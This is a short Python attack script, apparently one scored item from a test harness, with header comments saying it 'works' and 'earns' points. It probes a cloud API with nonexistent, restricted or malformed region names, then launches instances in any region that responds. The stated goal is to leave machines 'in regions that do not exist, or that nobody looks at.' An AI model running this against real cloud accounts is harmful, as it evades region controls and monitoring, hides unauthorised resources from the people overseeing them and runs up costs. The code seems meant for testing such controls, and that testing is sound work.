# attack: 24
# does: works, and leaves machines in regions that do not exist, or that nobody looks at
# run: finished
# earns: 6
# with: work
# with: http
work()
for region in ("us-east-9", "us-gov-west-1", "cn-north-1", "US-EAST-1", "us-east-1 ", "*", "aws", "eu-west-3"):
    for action in ("DescribeImages",):
        status, body = form(action, region=region, **{"Owner.1": "amazon"})
        if status == 200:
            image = body.partition(b"<imageId>")[2].partition(b"<")[0].decode()
            form("RunInstances", region=region, ImageId=image, MinCount=1, MaxCount=1, InstanceType="t3.micro")
